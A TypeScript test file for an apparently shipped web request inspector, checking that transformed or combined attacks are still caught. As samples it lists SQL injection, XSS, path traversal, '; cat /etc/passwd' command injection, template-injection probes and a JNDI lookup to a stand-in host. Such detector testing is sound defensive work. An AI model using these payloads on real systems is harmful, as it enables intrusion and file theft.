// An attack that is stopped when it is written plainly is stopped when it is written differently. Measured with the
// inspector as it is shipped, on attacks of the development sets and a few of our own.

import { describe, expect, it } from 'vitest';
import { measure, shareOf, type Tally } from './measure.ts';
import { PLACINGS } from './placings.ts';
import { hasSets, readSamples, type Sample } from './samples.ts';
import { isShipped, shippedInspector } from './shippedInspector.ts';
import { TEXT_TRANSFORMS } from './transforms.ts';

const SINGLES = 0.95;
const PAIRS = 0.9;
/** Of so few tries one may miss: the share would otherwise be decided by a single payload. */
const FEW = 20;

function isMissed(tally: Tally): boolean {
  return shareOf(tally) < SINGLES && !(tally.tried < FEW && tally.tried - tally.found <= 1);
}

function describeTally(tally: Tally): string {
  return `${tally.name}: ${tally.found} of ${tally.tried}, e.g. ${tally.missed[0] ?? ''}`;
}

describe('evasions', () => {
  it.skipIf(!isShipped() || !hasSets())(
    'hide one attack in twenty at most alone, and one in ten at most in pairs',
    { timeout: 240_000 },
    () => {
      const { plain, singles, pairs } = measure(shippedInspector(), readSamples(10), 53);
      expect(plain.tried).toBeGreaterThan(100);
      expect(shareOf(plain)).toBeGreaterThan(0.9);
      expect(singles.filter(isMissed).map(describeTally)).toEqual([]);
      expect(pairs.tried).toBeGreaterThan(500);
      expect(shareOf(pairs)).toBeGreaterThanOrEqual(PAIRS);
    },
  );

  it('are told from blindness: an inspector that stops nothing finds nothing', () => {
    const blind = { inspect: () => ({ action: 'pass', score: 0, class: undefined, reasons: [] }) as const };
    const samples: readonly Sample[] = [{ kind: 'sqli', payload: "' or 1=1--" }];
    const { plain, singles, pairs } = measure(blind, samples, 1);
    expect([plain.tried, plain.found, singles.length, pairs.tried]).toEqual([1, 0, 0, 0]);
  });

  it('each change something that is there to be changed', () => {
    const attacks = [
      "x' or 1=1 union select 1, user() from users where a='b' and 'c'='c' -- -",
      "' or 1=1--",
      '<img src=x onerror=alert(1)>',
      '<a href="javascript:alert(1)">x</a>',
      '../../../etc/passwd',
      '; cat /etc/passwd',
      "system('id -u')",
      "{{7*7}} ${''.__class__}",
      '${jndi:ldap://x.example/a}',
    ];
    const idle = TEXT_TRANSFORMS.filter(({ apply }) => attacks.every((attack) => apply(attack) === attack));
    expect(idle.map(({ name }) => name)).toEqual([]);
  });

  it('are sent as requests of their own', () => {
    const requests = PLACINGS.map(({ request }) => request("' or 1=1--"));
    const texts = requests.map(
      ({ method, rawTarget, body }) =>
        `${method} ${rawTarget} ${body === undefined ? '' : new TextDecoder().decode(body)}`,
    );
    expect(new Set(texts).size).toBe(PLACINGS.length);
  });
});
